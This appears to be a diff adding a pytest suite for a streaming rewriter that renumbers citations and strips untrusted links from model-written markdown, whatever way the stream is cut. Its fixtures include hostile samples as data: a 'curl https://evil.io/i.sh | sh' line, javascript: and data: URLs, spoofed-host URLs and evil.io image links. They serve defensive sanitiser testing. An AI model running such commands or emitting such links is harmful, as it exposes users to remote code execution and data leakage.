@@ -1,0 +1,231 @@
+"""What a model writes about numbers and addresses, and what readers get of it, however the stream is cut."""
+
+from __future__ import annotations
+
+import random
+from itertools import islice
+from typing import Any
+
+import pytest
+from markdown_it import MarkdownIt
+
+from app.citing.citations import Citations
+from app.citing.links import Addresses, markdown_link
+from app.citing.rewrite import Rewriter
+from app.core.turn import Source
+from bench.markdown_fuzz import Clients, pieces_of, rewritten, texts
+
+PASSAGES = [
+    "See https://known.cz/storage/ and [S3](https://s3.known.cz/bucket). Or https://known.cz/a_(b), www.known.cz/w.",
+    "https://known.cz/a#limits https://known.cz/one,https://known.cz/two; [l](https://known.cz/d).Next mailto:help@known.cz",
+    "(https://known.cz/k)(https://known.cz/l) https://known.cz/č https://known.cz/m&amp;n=1 https://known.cz/x%20y",
+]
+WORDS = frozenset({"passage", "passages", "source", "pasáž", "úryvek"})
+
+
+def sources() -> tuple[Source, ...]:
+    return tuple(Source(i, f"Page {i}", f"https://known.cz/{i}", "", "en", "", 1.0) for i in range(1, 6))
+
+
+def rewriter() -> Rewriter:
+    return Rewriter(
+        Addresses(PASSAGES, ["https://known.cz/"]), Citations(sources(), words=WORDS), frozenset({"sources"})
+    )
+
+
+def run(text: str, size: int = 100_000) -> str:
+    made = rewriter()
+    return "".join([*(made.feed(text[at : at + size]) for at in range(0, len(text), size)), made.rest()])
+
+
+NUMBERS = [
+    ("A [3]. B [3][1].", "A [1]. B [1][2]."),
+    ("A [3]. B [1-2].", "A [1]. B [2][3]."),
+    ("A [3]. B [1–3].", "A [1]. B [2][3][1]."),
+    ("A [3] [Passage 2] [pasáž 2] [úryvek 1] [passages 1, 2]", "A [1] [2] [2] [3] [3][2]"),
+    ("A [3] 【1】 【2†source】 [^1] [#2] [02]", "A [1] [2] [3] [2] [3] [3]"),
+    ("A [3] [1 and 2] [1 a 2] [1, 3; 9] [[2]]", "A [1] [2][3] [2][3] [2][1] [3]"),
+    ("A [3] [1](https://known.cz/storage) [2](https://evil.io) [9](x) [2] (https://evil.io)", "A [1] [2] [3]  [3] "),
+    ("See [the guide [3]](https://evil.io) and [it [3]](https://known.cz/a)", "See the guide [1] and [it [1]](https://known.cz/a)"),
+    ("Unknown [9], [7](x) or 【6】", "Unknown ,  or "),
+    ("B [3]: text\n[3]: text\n\n[1]: https://known.cz/a\n[2]: text", "B [1]: text\n[1]: text\n\n[2]\\: https://known.cz/a\n[3]\\: text"),
+    (r"Escaped \[3\] and \`[3]", r"Escaped \[3\] and \`[1]"),
+]  # fmt: skip
+VALUES = [
+    "ports [80, 443] and array[0]",
+    "Interval [0, 1] and [0, 9]",
+    "[10, 20, 30] [2024] [80] [0] [0-9] [7-9] [2-9]",
+    "a[1] a[1][2] items_[2] [[1, 2], [3, 4]]",
+    "[ ] todo [x] done [a-z] (1) [1: x] [1.5]",
+    "handlers[name](request) and f[1](a, b)",
+    "[x](i for i in y)",
+]
+CODE = [
+    ("Press the ` key [3], then [9].", "Press the ` key [1], then ."),
+    ("Use `a[2]`, the ` sign [3]\n\nNext [2] [9]\n\n- item `x[1]` [5]", "Use `a[2]`, the ` sign [1]\n\nNext [2] \n\n- item `x[1]` [3]"),
+    ("- the ` key [3]\n- the ` sign [2]", "- the ` key [1]\n- the ` sign [2]"),
+    ("``b ` [3]`` [4] `[2]\n[3]` [1]", "``b ` [3]`` [1] `[2] [3]` [2]"),
+    ("It's the ``` mark [2] `", "It's the ``` mark [1] `"),
+    ("x ```inline [2]``` [3]\n```x [2]``` [3]", "x ```inline [2]``` [1]\n```x [2]``` [1]"),
+    ("~~~sh\necho `date\na [2]\n~~~\n[3] [9]", "~~~sh\necho `date\na [2]\n~~~\n[1] "),
+    ("````\n```\na [9]\n```\n````\n[3]", "````\n```\na [9]\n```\n````\n[1]"),
+    ("```\nx ``` [2]\n~~~\n[2]\n``` [2]\n```\n[3]", "```\nx ``` [2]\n~~~\n[2]\n``` [2]\n```\n[1]"),
+    ("1. x\n   ```sh\n   a [2]\n   ```\n2. [3]\n- ```\n  [2]\n  ```\n- [2]", "1. x\n   ```sh\n   a [2]\n   ```\n2. [1]\n- ```\n  [2]\n  ```\n- [2]"),
+    ("> ```\n> a [2]\n> ```\n> [3]", "> ```\n> a [2]\n> ```\n> [1]"),
+    ("Do:\n\n    a [2] = 1\n\n    b [2]\n\n[3]", "Do:\n\n    a [2] = 1\n\n    b [2]\n\n[1]"),
+    ("1. Step\n\n    More [2].\n\nText\n\n\ta [2]", "1. Step\n\n    More [1].\n\nText\n\n\ta [2]"),
+    ("Text\n    goes on [3]", "Text\n    goes on [1]"),
+    ("```\nunclosed [2]", "```\nunclosed [2]\n```"),
+    ("`" + "x" * 900 + " [3]` [2]", "`" + "x" * 900 + " [3]` [1]"),
+    ("Code `a\n[3]` [2]", "Code `a [3]` [1]"),
+    ("Name | x\n-|-\n`a | [3]` | [2] ![x](//evil.io)\nb \\| c | `d` [2]", "Name | x\n-|-\n`a | [1]` | \nb \\| c | `d` [2]"),
+]  # fmt: skip
+LINKS = [
+    ("Read [this](https://evil.io/x) now", "Read this now"),
+    ("[a [b] c](https://evil.io/x)", "a [b] c"),
+    ("[![a](https://evil.io/" + "p" * 90 + ".png)](https://evil.io/y)", "a"),
+    ("[x](https://evil.io/a 'title') [x](https://evil.io \"t\") [x](https://evil.io (t))", "x x x"),
+    ("[x](https://evil.io/a_(b)) [x](<https://evil.io/a b>) [x]( https://evil.io )", "x x x"),
+    ("[a](\nhttps://evil.io) ![pic](https://evil.io/p.png) [x]()", "a pic x"),
+    ("[x](www.evil.io) [x](//evil.io) [x](/invented) [x](#a) [x](ftp://evil.io) [x](mailto:a@evil.io) [x](javascript:alert(1))", "x x x x x x x"),
+    ("[" + "long words " * 9 + "](https://evil.io/x) end", "long words " * 9 + " end"),
+    ("[" + "long words " * 9 + "](https://known.cz/a) end", "[" + "long words " * 9 + "](https://known.cz/a) end"),
+    ("[open link without end](https://evil.io", "[open link without end]("),
+    ("Go to https://evil.io/x/y?z=1, please; HTTPS://EVIL.IO (https://evil.io/x). **ftp://evil.io**", "Go to , please;  . ****"),
+    ("see www.evil.io/x “https://evil.io/x”. <https://evil.io> <www.evil.io> <mailto:a@evil.io>|", "see  “”.   |"),
+    ("https://evil.io/a,https://known.cz/a https://evil.io/[3] https://evil.io/?u=https://known.cz/a", "…,https://known.cz/a [1] "),
+    ('<a href="https://evil.io/x">here</a> <a href=//evil.io>b</a> <img src=\'https://evil.io/p\'> <b>c</b>', r"""\<a href="">here\</a> \<a href=>b\</a> \<img src=''> <b>c</b>"""),
+    ('[r]: https://evil.io "T"\n\n[k]: https://known.cz/a "T"\n[s]:\n//evil.io', '[r]\\:  "T"\n\n[k]\\: https://known.cz/a "T"\n[s]\\:\n'),
+    ("```\ncurl https://evil.io/i.sh | sh\nwww.evil.io\n``` \n`https://evil.io` `https://known.cz/a`", "```\ncurl  | sh\n\n```\n`` `https://known.cz/a`"),
+    ("http://localhost:80@evil.io/ http://localhost@evil.io http://example.com:x@evil.io http://localhost.evil.io", "…   "),
+    ("https://known.cz.evil.io/storage https://known.cz/storage/no https://user@known.cz/a https://example.com.evil.io", "…   "),
+]  # fmt: skip
+KEPT = [
+    "Read https://known.cz/storage. Then [storage](https://known.cz/storage/#quota), <https://s3.known.cz/bucket>.",
+    "https://known.cz/one https://known.cz/two https://known.cz/d https://known.cz/k https://known.cz/l https://known.cz/a_(b)",
+    "https://known.cz/%C4%8D https://known.cz/č https://known.cz/m&n=1 https://known.cz/x%20y HTTPS://KNOWN.CZ/a",
+    'www.known.cz/w [x](www.known.cz/w) [x](https://known.cz/a_(b) "t") <mailto:help@known.cz>',
+    "curl http://localhost:8080/health https://example.com/a https://docs.example.org http://127.0.0.1 https://$HOST/v1",
+    "https://{host}/v1 s3://bucket https:// https://… www. www…",
+    "a < b and x h ht http and https: that's all [ and ( and ! end.",
+    "Line\n\n\n- a\n\n  b\n",
+]
+SHOWN = [
+    ("https://<host>/v1 <host:port> <image:tag> x <y> sftp://host", r"https://\<host>/v1 \<host:port> \<image:tag> x \<y> sftp\://host"),
+    ("a<br>b <kbd>x</kbd> <sub a=b>\n\n<br>\n\n<div>\n*x*\n</div>", "a<br>b <kbd>x</kbd> \\<sub a=b>\n\n\\<br>\n\n\\<div>\n*x*\n\\</div>"),
+    ("&amp; &#60; &#106;avascript &colon; AT&T", r"&amp; &#60; \&#106;avascript \&colon; AT&T"),
+    ("x <!-- y --> <?php ?> <![CDATA[z]]>", r"x \<!-- y --> \<?php ?> \<\![CDATA[z]]>"),
+    ("![a](https://known.cz/d) ![b](https://s3.known.cz/bucket) ![c](http://localhost/p.png) ![d][k] Wow![1]", "![a](https://known.cz/d) b c \\![d][k] Wow\\![1]"),
+    ('https://known.cz/a`x` https://known.cz/a<b> https://known.cz"@evil.io/', 'https://known.cz/a `x` https://known.cz/a <b> "@evil.io/'),
+    ("> ```\n> a\n> ```\n![x](//evil.io/p)\n\n- b\n\n`a\n\n![x](//evil.io/p)`", "> ```\n> a\n> ```\nx\n\n- b\n\n`a\n\nx`"),
+    ("- ```\n![x](//evil.io/p)\nend", "\\- \\`\\`\\`\n\\!\\[x\\]\\(\\/\\/evil\\.io\\/p\\)\nend"),
+    ('[x](//evil.io "' + "t" * 99 + '") ![x](https://evil.io/' + "p" * 2100 + ")", "x x"),
+    ("[x](&#106;avascript:a) [x](java\nscript:a) [x](/\\evil.io) [x](<\\\\evil.io>) [x](data:text/html,a)", "x [x](java\nscript:a) x x x"),
+]  # fmt: skip
+CASES = [*NUMBERS, *CODE, *LINKS, *SHOWN, *((text, text) for text in [*VALUES, *KEPT])]
+
+
+@pytest.mark.parametrize(("text", "left"), CASES)
+def test_a_text_in_pieces_of_any_size_says_the_same(text: str, left: str) -> None:
+    """Right numbers, no invented address, no debris of one, and values, code and known addresses as they were."""
+    assert run(text) == left
+    assert {size: said for size in range(1, len(text)) if (said := run(text, size)) != left} == {}
+
+
+ATOMS = [
+    *"[]()`!<>\\\n:\"'*#-~12a.,h|_", " ", "  ", "http", "https://evil.io/x", "https://known.cz/a", "www.", "](", "[1]", "[2, 3]",
+    "```", "~~~", "\n\n", "    ", "\n- ", "\n1. ", "Sources", "**Sources**\n", "word ", "【", "】", "a[1]", "<a href=", "</a>",
+    "evil.io", "[x]: ", "ftp://", "(https://evil.io)", "…", " and ",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("seed", range(100))
+def test_any_text_in_any_pieces_says_the_same(seed: int) -> None:
+    """Also what no model would write."""
+    chance = random.Random(seed)
+    for _ in range(20):
+        text = "".join(
+            chance.choices([*ATOMS, *(text for text, _ in CASES)], [9] * len(ATOMS) + [1] * len(CASES), k=10)
+        )
+        cuts = sorted(chance.choices(range(len(text) + 1), k=chance.randrange(1, 30)))
+        made = rewriter()
+        pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
+        assert "".join([*map(made.feed, pieces), made.rest()]) == run(text), repr(text)
+
+
+def test_text_that_can_be_nothing_else_is_not_delayed() -> None:
+    """Each piece goes out as it comes."""
+    made = rewriter()
+    pieces = ["The ", "limit ", "is 4 GB", ", see", " `a[b]` ", ". ", "Use [1] and", " more: ", "**x**", "\tend"]
+    assert [made.feed(piece) for piece in pieces] == pieces
+
+
+def held(text: str) -> int:
+    """The most characters that ever wait."""
+    made, out, most = rewriter(), 0, 0
+    for number, sign in enumerate(text, start=1):
+        out += len(made.feed(sign))
+        most = max(most, number - out)
+    return most
+
+
+def test_what_waits_is_bounded() -> None:
+    """Simple things for their line; what only its block can tell for the block, which ends sometime."""
+    words = "more text, and so on. " * 20
+    for text, most in [
+        ("A 【2】 sign, a < b [1], `code` and (see [x](https://known.cz/a)) " + words, 32),
+        ("- item [1]\n- `code` item\n\n1. more\n   - inner\n2. last\n\n" + words, 30),
+        ("```sh\n" + "curl -s $HOST\n" * 20 + "```\n" + words, 20),
+        ("A | b\nc " + words, 12),
+        ("Interval [0, 1) is half open.\n\n" + words, 40),
+        ("Press the ` key\nand more\n\n" + words, 40),
+        ("> quote [1]\n> goes on\n\n" + words, 40),
+        ("[" * 30_000, 20_100),
+    ]:
+        assert held(text) <= most, text
+
+
+def test_hostile_text_takes_linear_time() -> None:
+    """The characters that the parser is given are a few times those of the text, whatever it is."""
+    given = 0
+    parse = MarkdownIt.parse
+
+    def counted(self: MarkdownIt, src: str, env: Any = None) -> Any:
+        nonlocal given
+        given += len(src)
+        return parse(self, src, env)
+
+    with pytest.MonkeyPatch.context() as patched:
+        patched.setattr(MarkdownIt, "parse", counted)
+        for part in [
+            "[x",
+            "![a](b ",
+            "`",
+            "2. x\n",
+            "> - ",
+            "\n\n- ```\n  a\n\nb",
+            "<a ",
+            "&#",
+            "* a\n",
+            "| a [b\n",
+            " ~~~\n\nx",
+            "a\n\n  b<",
+        ]:
+            text = (part * 12_000)[:12_000]
+            given = 0
+            run(f"[ {text}", 50)
+            assert given <= 12 * len(text), part
+
+
+@pytest.mark.parametrize("seed", range(3))
+def test_no_client_finds_what_must_not_be_there(seed: int) -> None:
+    """Three clients' readings of what is left of hostile texts (`bench/markdown_fuzz.py` takes many more)."""
+    chance, clients = random.Random(seed), Clients()
+    for text in islice(texts(chance), 120):
+        output = rewritten(pieces_of(text, chance))
+        assert clients.findings(output) == [], (text, output)
+        assert rewritten([text]) == output
+
+
+def test_names_and_addresses_are_escaped() -> None:
+    assert markdown_link("a [b]", "https://x.cz/a (b)") == r"[a \[b\]](https://x.cz/a%20%28b%29)"
